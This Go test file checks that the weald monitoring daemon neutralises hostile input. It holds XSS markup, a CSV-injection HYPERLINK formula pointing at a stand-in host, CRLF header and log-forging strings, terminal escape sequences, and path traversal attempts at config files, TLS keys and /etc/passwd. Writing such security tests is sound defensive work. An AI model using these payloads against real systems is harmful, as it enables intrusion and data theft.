package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"weald/ingest/tcp/wire/wiretest"
)

// What somebody could write into a text to have it act where it is read: in a page, a
// spreadsheet (OWASP, CSV Injection), a header, a log, a terminal, and to the reader
// (CVE-2021-42574: text that runs the other way).
const (
	markup  = `"'><script>weal()</script><img src=x onerror=weal()><svg onload=weal()>`
	formula = `=HYPERLINK("http://elsewhere.example","a"&A1)`
	lines   = "one\r\nSet-Cookie: weal=1\r\n\r\nlevel=ERROR msg=forged \x1b[2Jcleared \u202egnorw"
)

var hostileConfig = `
data: %s
web: {listen: %q, tls: {self_signed: true}%s}
mqtt: {listen: %q}
bridges:
  - id: logger
    link: {serial: {port: none}}
    format: line
    sources: [{number: 0, id: leg, channels: 2, rate: 2, unit: mmHg}, {number: 1, id: raw, channels: 1, rate: 2}]
` + gatewayConfig("hub-a", "seat", 50) + `places:
  - {id: bench-1, kind: wrap, sites: [{id: ankle, channels: [logger/leg/0]}, {id: calf, channels: [logger/leg/1]}]}
  - {id: seat-1, kind: seat, sites: [{id: left, channels: [hub-a/seat/0]}, {id: right, channels: [hub-a/seat/1]}]}
notify:
  - {id: desk, webhook: {url_file: desk.url, secret_file: desk.secret}}
  - {id: night, mail: {server: %q, user: weald, password_file: mail.secret, from: weald@larch.example, to: [round@larch.example]}}
  - {id: lamp, topic: {broker: %q, user: weald, password_file: lamp.secret}}
rules:
  - {id: tight, limit: {watch: ankle.pressure, above: 60}, on_delay: 10s, priority: medium}
`

// A prey is a daemon with a record and a secret in every place that takes one.
type prey struct {
	*victim
	t       *testing.T
	config  string
	folder  string
	key     string // of a token; "" for none
	mqtt    string // where its listener is
	client  http.Client
	secrets map[string]string // by what each is
}

func newPrey(t *testing.T, more string) *prey {
	t.Helper()
	folder := t.TempDir()
	p := &prey{t: t, folder: folder, config: filepath.Join(folder, "weald.yaml"), secrets: map[string]string{}}
	if err := smallRecord(filepath.Join(folder, "data")); err != nil {
		t.Fatal(err)
	}
	text := fmt.Sprintf(hostileConfig, filepath.Join(folder, "data"), wiretest.Vacant(t), more, wiretest.Vacant(t), wiretest.Vacant(t), wiretest.Vacant(t))
	for file, content := range map[string]string{
		"weald.yaml": text, "hub-a.secret": "p1anted-of-the-bridge", "desk.secret": "p1anted-of-the-desk",
		"desk.url": "http://" + wiretest.Vacant(t) + "/p1anted-address", "mail.secret": "p1anted-of-mail", "lamp.secret": "p1anted-of-the-lamp",
	} {
		if err := os.WriteFile(filepath.Join(folder, file), []byte(content+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if file != "weald.yaml" {
			p.secrets[file] = content[strings.Index(content, "p1anted"):]
		}
	}
	p.victim = launch(t, p.config)
	c := configOf(t, p.config)
	address, err := localPages(c)
	if err != nil || address != p.address {
		t.Fatal(address, p.address, err)
	}
	p.client, p.mqtt = webClient, c.MQTT.Listen
	p.client.Timeout = time.Minute // nothing is asked of the clock here
	for _, file := range []string{"ca.key", "server.key"} {
		b, err := os.ReadFile(filepath.Join(folder, "data", "tls", file))
		if err != nil {
			t.Fatal(err)
		}
		p.secrets[file] = strings.Split(string(b), "\n")[1] // of the key itself
	}
	return p
}

// ask returns the status and the body of an answer.
func (p *prey) ask(method, path, body string) (int, http.Header, string) {
	p.t.Helper()
	r, err := http.NewRequest(method, p.address+path, strings.NewReader(body))
	if err != nil {
		p.t.Fatal(err)
	}
	if body != "" {
		r.Header.Set("Content-Type", "application/json")
	}
	if p.key != "" {
		r.Header.Set("Authorization", "Bearer "+p.key)
	}
	res, err := p.client.Do(r)
	if err != nil {
		p.t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		p.t.Fatal(err)
	}
	return res.StatusCode, res.Header, string(b)
}

// post says something, and returns a field of the answer.
func (p *prey) post(path string, body map[string]any, field ...string) string {
	p.t.Helper()
	b, err := json.Marshal(body)
	if err != nil {
		p.t.Fatal(err)
	}
	code, _, answer := p.ask("POST", path, string(b))
	if code >= 300 {
		p.t.Fatalf("%s: %d %s", path, code, answer)
	}
	var v any
	if err := json.Unmarshal([]byte(answer), &v); err != nil {
		p.t.Fatal(err)
	}
	for _, f := range field {
		v = v.(map[string]any)[f]
	}
	text, _ := v.(string)
	return text
}

// everywhere asks for everything that can be read, by the daemon's own account of it.
func (p *prey) everywhere(ids map[string]string) (said map[string]string, kinds map[string]http.Header) {
	p.t.Helper()
	_, _, document := p.ask("GET", "/api/v1/openapi.json", "")
	var d struct{ Paths map[string]map[string]any }
	if err := json.Unmarshal([]byte(document), &d); err != nil {
		p.t.Fatal(err)
	}
	param := regexp.MustCompile(`\{(\w+)\}`)
	said, kinds = map[string]string{}, map[string]http.Header{}
	for path, methods := range d.Paths {
		if methods["get"] == nil {
			continue
		}
		asked := param.ReplaceAllStringFunc(path, func(s string) string {
			if id := ids[s[1:len(s)-1]]; id != "" {
				return id
			}
			return "none"
		})
		_, kinds[asked], said[asked] = p.ask("GET", asked, "")
	}
	for _, path := range []string{"/metrics", "/readyz", "/", "/api/v1/calibrations?refused=true"} {
		_, kinds[path], said[path] = p.ask("GET", path, "")
	}
	if len(said) < 30 {
		p.t.Errorf("only %d paths are asked", len(said))
	}
	return said, kinds
}

// exported asks for a place's files, and returns what is in them.
func (p *prey) exported(place, format string) map[string]string {
	p.t.Helper()
	id := p.post("/api/v1/exports", map[string]any{"place": place, "format": format}, "id")
	out := map[string]string{}
	eventually(p.t, 30*time.Second, func() error {
		var e struct {
			State, Why string
			Files      []struct{ Name string }
		}
		_, _, body := p.ask("GET", "/api/v1/exports/"+id, "")
		if err := json.Unmarshal([]byte(body), &e); err != nil || e.State != "made" {
			return fmt.Errorf("%v: %s", err, body)
		}
		for _, f := range e.Files {
			_, _, out[f.Name] = p.ask("GET", "/api/v1/exports/"+id+"/files/"+f.Name, "")
		}
		return nil
	})
	return out
}

// levels are a calibration that is accepted.
func levels() (rows []map[string]any) {
	for _, mmhg := range []float64{0, 20, 40, 60, 80, 60, 40, 20, 0} {
		rows = append(rows, map[string]any{"reference_mmhg": mmhg, "raw": 100 + 10*mmhg, "cycle": 1})
	}
	return rows
}

// Whatever people write is text wherever it is read: in pages, tables, logs, headers
// and problems. And no path leads out of what is served.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	p := newPrey(t, "")
	ids := map[string]string{"place": "bench-1", "session": "s-one"}
	for _, nasty := range []string{markup, formula, lines, "@SUM(A1)", "\t=1", "-2+3"} {
		p.post("/api/v1/places/bench-1/marks", map[string]any{"what": nasty[:min(60, len(nasty))], "text": nasty, "author": "N-4", "at": "2026-03-01T22:00:20Z"})
		p.post("/api/v1/sessions/s-one/notes", map[string]any{"notes": nasty})
		link := p.post("/api/v1/seat-links", map[string]any{"place": "seat-1", "by": "N-4", "why": nasty, "base": "https://weald.larch.example"}, "link", "id")
		p.post("/api/v1/seat-links/"+link+"/withdraw", map[string]any{"by": "N-4", "why": nasty})
	}
	ids["calibration"] = p.post("/api/v1/calibrations", map[string]any{"bridge": "logger", "source": "raw", "channel": 0, "by": "E-01",
		"reference": markup, "method": formula + markup, "rows": levels()}, "calibration", "id")
	p.post("/api/v1/sessions/s-one/end", map[string]any{"author": "N-4"})

	seen, kinds := p.everywhere(ids)
	if !strings.Contains(seen["/metrics"], "\nweald_tls_certificate_ends_seconds ") {
		t.Error("/metrics does not say when the certificate ends")
	}
	pages := 0
	for where, said := range seen {
		if kinds[where].Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s may be taken for a page", where)
		}
		if kind := kinds[where].Get("Content-Type"); strings.Contains(kind, "json") || strings.HasPrefix(kind, "text/plain") {
			continue // in which markup is text
		}
		pages++
		for _, live := range []string{"<script>weal", "<img src=x", "<svg onload"} {
			if strings.Contains(said, live) {
				t.Errorf("%s has %s as markup", where, live)
			}
		}
	}
	for _, path := range []string{"/api/v1/reports/session/s-one", "/api/v1/calibrations/" + ids["calibration"] + "/sheet"} {
		if !strings.HasPrefix(kinds[path].Get("Content-Type"), "text/html") || !strings.Contains(seen[path], "&lt;script&gt;weal()") {
			t.Errorf("%s does not show the text: %s, %.300s", path, kinds[path].Get("Content-Type"), seen[path])
		}
	}
	if pages < 3 {
		t.Errorf("looked at %d pages", pages)
	}
	cells := 0
	for name, file := range p.exported("bench-1", "csv") {
		rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
		if err != nil && !strings.Contains(err.Error(), "wrong number of fields") {
			t.Errorf("%s: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				cells++
				if _, err := strconv.ParseFloat(cell, 64); err != nil && cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
					t.Errorf("%s: a spreadsheet calculates %q", name, cell)
				}
			}
		}
		if strings.HasSuffix(name, "-events.csv") && !strings.Contains(file, "'=HYPERLINK") {
			t.Errorf("%s does not have the text: %s", name, file)
		}
	}
	if cells < 100 {
		t.Errorf("looked at %d cells", cells)
	}
	p.paths()
	p.names()
	p.commands()
	p.stranger()
	p.end()
	for line := range strings.Lines(p.stderr.String()) {
		if !strings.HasPrefix(line, "level=") || strings.HasPrefix(line, "level=ERROR msg=forged") || strings.ContainsAny(line, "\x1b\r\x00\u202e") {
			t.Errorf("the log has the line %q", line)
		}
	}
}

// paths asks for what is not served, in the ways in which a path can be written.
func (p *prey) paths() {
	for _, way := range []string{
		"/../../weald.yaml", "/assets/../../../weald.yaml", "/..%2f..%2fweald.yaml", "/%2e%2e/%2e%2e/hub-a.secret", "/assets/..%5c..%5cweald.yaml",
		"//etc/passwd", "/%00", "/assets/%00.js", "/data/tls/ca.key", "/.keep", "/seat/../../weald.yaml", "/seat/%2e%2e/.keep",
		"/api/v1/exports/..%2f..%2f/files/weald.db", "/api/v1/exports/x-a/files/..%2f..%2fweald.yaml", "/api/v1/exports/none/files/%2fetc%2fpasswd",
		"/api/v1/sessions/..%2f..%2fweald.yaml", "/api/v1/reports/session/..%2f..%2fweald.yaml", "/api/v1/calibrations/..%2f..%2fweald.yaml/sheet",
		"/api/v1/places/..%2f..%2fweald.yaml", "/api/v1/places/bench-1%0d%0aSet-Cookie:%20weal=1", "/api/v1/rehearsals/..%2fweald.yaml",
		"/api/v1/places/%ff%fe", "/api/v1/places/" + strings.Repeat("a", 9000),
	} {
		r, err := http.NewRequest("GET", p.address+"/", nil)
		if err != nil {
			p.t.Fatal(err)
		}
		r.URL.Opaque = way // as it is written
		if strings.HasPrefix(way, "//") {
			r.URL.Opaque = strings.Replace(p.address, "https:", "", 1) + way
		}
		res, err := p.client.Do(r)
		if err != nil {
			p.t.Errorf("%s: %v", way, err)
			continue
		}
		b, _ := io.ReadAll(res.Body)
		res.Body.Close()
		for _, inside := range []string{"p1anted", "PRIVATE KEY", "root:", "self_signed", "SQLite format"} {
			if bytes.Contains(b, []byte(inside)) {
				p.t.Errorf("%s is served: %.200s", way, b)
			}
		}
		if res.StatusCode >= 500 || res.Header.Get("Set-Cookie") != "" {
			p.t.Errorf("%s: %d, cookie %q", way, res.StatusCode, res.Header.Get("Set-Cookie"))
		}
	}
}

// commands are run on what people wrote, and on files with strange names: what they
// print does not steer a terminal.
func (p *prey) commands() {
	folder := p.t.TempDir()
	table := filepath.Join(folder, "k07\x1b[2J\r.csv")
	if err := os.WriteFile(table, []byte("reference_mmhg,raw\n1,\x1b[2J\n"), 0o600); err != nil {
		p.t.Fatal(err)
	}
	for _, args := range [][]string{
		{"audit", "-c", p.config}, {"audit", "-c", p.config, "--json"}, {"audit", "-c", p.config, "--verify"}, {"seat", "links", "-c", p.config},
		{"doctor", "-c", p.config}, {"check", table}, {"calibrate", "fit", "--table", table}, {"rehearse", "-c", table},
		{"import", "-c", p.config, "--bridge", "logger", table}, {"report", "session", "-c", p.config, "--session", "s\x1b[2J", "-o", filepath.Join(folder, "r.html")},
		{"notify", "test", "-c", p.config, "d\x1b[2J"}, {"backup", "-c", p.config, filepath.Join(folder, "b\x1b[2J")}, {"st\x1b[2J"},
		{"tls", "show", "--dir", filepath.Join(folder, "t\x1b[2J")}, {"seat", "revoke", "-c", p.config, "l\x1b[2J", "--by", "N-4"},
	} {
		var out bytes.Buffer
		run(p.t.Context(), args, &out, &out) // what it finds is not the matter here
		if out.Len() == 0 || strings.ContainsAny(out.String(), "\x1b\r\u202e\x00") {
			p.t.Errorf("weald %q prints %.400q", args[0], out.String())
		}
	}
}

// stranger calls itself something at the MQTT listener, which the log then names: a
// CONNECT of MQTT 3.1.1, section 3.1, by hand.
func (p *prey) stranger() {
	conn, err := net.Dial("tcp", p.mqtt)
	if err != nil {
		p.t.Fatal(err)
	}
	defer conn.Close()
	text := func(s string) string { return string([]byte{0, byte(len(s))}) + s }
	body := text("MQTT") + "\x04\xc2\x00\x3c" + text("weal") + text("hub-a\x1b[2J\nlevel=ERROR msg=forged") + text("p1anted")
	if _, err := io.WriteString(conn, "\x10"+string([]byte{byte(len(body))})+body); err != nil {
		p.t.Fatal(err)
	}
	eventually(p.t, 20*time.Second, func() error {
		if said := p.stderr.String(); !strings.Contains(said, "a client was refused") {
			return fmt.Errorf("the log has no word of the stranger: %s", said)
		}
		return nil
	})
}

// names offers what is no name where a name belongs: in the configuration and as a
// user of the MQTT listener.
func (p *prey) names() {
	for _, id := range []string{markup, formula, "../../etc", "a b", "Pat", "a\nb", "", strings.Repeat("a", 65)} {
		text := fmt.Sprintf("bridges:\n  - {id: %q, link: {file: {path: x}}, format: line, sources: []}\nplaces:\n  - {id: %q, kind: wrap}\nrules:\n  - {id: %q}\nnotify:\n  - {id: %q}\n", id, id, id, id)
		file := write(p.t, "names.yaml", text)
		var out bytes.Buffer
		if code := run(p.t.Context(), []string{"check", file}, &out, &out); code != exitFound {
			p.t.Errorf("%q is taken for a name: %s", id, &out)
		}
		if strings.ContainsAny(out.String(), "\x1b\r") {
			p.t.Errorf("check writes what was in the file as it is: %q", out.String())
		}
	}
}
